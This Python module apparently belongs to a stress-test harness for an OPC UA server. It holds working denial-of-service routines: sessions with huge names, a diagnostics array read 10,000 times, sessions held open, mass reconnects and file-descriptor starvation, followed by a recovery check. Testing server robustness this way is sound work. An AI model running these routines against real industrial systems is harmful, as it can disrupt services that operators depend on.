"""Attacks by many connections and sessions."""

import contextlib
import resource
import struct
import time

from asyncua import ua
from raw_client import Refused, status_name
from target import Target, reads, refused_with

SESSION_DIAGNOSTICS = ua.NodeId(3707, 0)


def long_session_names(target: Target) -> str:
    opened = 0
    for _ in range(60):
        with contextlib.suppress(Refused):
            target.client(name="n" * 100_000)
            opened += 1
    return f"{opened} of 60 sessions opened"


def diagnostics_array(target: Target) -> str:
    """The array of all sessions' diagnostics, one of them with a long name, read 10 000 times."""
    named = refused_with(lambda: target.client(name="n" * 100_000))
    client, request = target.client(), ua.ReadRequest()
    array = ua.ReadValueId(SESSION_DIAGNOSTICS, ua.AttributeIds.Value)
    request.Parameters.NodesToRead = [array] * 10_000
    answer = client.request(request)
    client.close()
    encoding, status = struct.unpack_from("<BI", answer, 4)  # of the first value
    read = status_name(status) if encoding == 2 else f"{len(answer) >> 10} KB"
    return f"long name: {named}; array: {read}"


def sessions_left(target: Target) -> str:
    """99 clients that stay connected and silent."""
    clients = []
    for _ in range(99):
        with contextlib.suppress(Refused):
            clients.append(target.client())
    began = time.monotonic()
    while True:
        try:
            target.client().close()
            break
        except Refused:
            if time.monotonic() - began > 30:
                return "no other client can connect within 30 s"
            time.sleep(0.1)
    for client in clients:
        client.close()
    return f"a new client got in after {time.monotonic() - began:.1f} s"


def reconnects(target: Target) -> str:
    opened = 0
    for _ in range(10_000):
        with contextlib.suppress(Refused):
            target.client().close()
            opened += 1
    return f"{opened} of 10000 got a session"


def no_descriptors(target: Target) -> str:
    """The server may open 64 descriptors, and 100 clients connect."""
    before = resource.prlimit(target.pid, resource.RLIMIT_NOFILE)
    resource.prlimit(target.pid, resource.RLIMIT_NOFILE, (40, before[1]))
    clients = []
    for _ in range(100):
        with contextlib.suppress(Refused, OSError):
            clients.append(target.client(session=False))
    share = target.cpu_share(2)
    resource.prlimit(target.pid, resource.RLIMIT_NOFILE, before)
    for client in clients:
        client.close()
    return f"{len(clients)} of 100 connected, {share:.0%} of a core"


def new_client(target: Target) -> str:
    """Not an attack: checks that the server can still serve after the previous ones."""
    began = time.monotonic()
    while True:
        try:
            client = target.client()
            client.request(reads(100))
            client.close()
        except (Refused, OSError):
            if time.monotonic() - began > 30:
                return "no client can connect within 30 s"
            time.sleep(0.1)
        else:
            return f"a new client was served after {time.monotonic() - began:.1f} s"
